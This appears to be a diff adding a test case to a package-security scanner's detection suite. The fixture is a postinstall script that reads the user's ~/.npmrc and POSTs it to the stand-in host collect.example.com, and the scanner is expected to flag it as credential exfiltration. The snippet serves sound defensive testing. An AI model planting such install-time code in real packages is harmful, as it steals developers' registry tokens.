@@ -160,6 +160,27 @@ req.end(key)
   },
   {
     rule: 'exfiltrates-credentials',
+    name: 'install script collects ~/.npmrc through a path variable into an array and sends it',
+    scan: () =>
+      npm(
+        {
+          'x.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https')
+const found = []
+const rc = path.join(os.homedir(), '.npmrc')
+found.push(fs.readFileSync(rc, 'utf8'))
+const req = https.request({ hostname: 'collect.example.com', method: 'POST' })
+req.end(JSON.stringify(found))
+`,
+        },
+        postinstall('node x.js'),
+      ),
+    file: 'x.js',
+    line: 6,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'exfiltrates-credentials',
     name: 'setup.py posts ~/.aws/credentials',
     scan: () =>
       sdist({
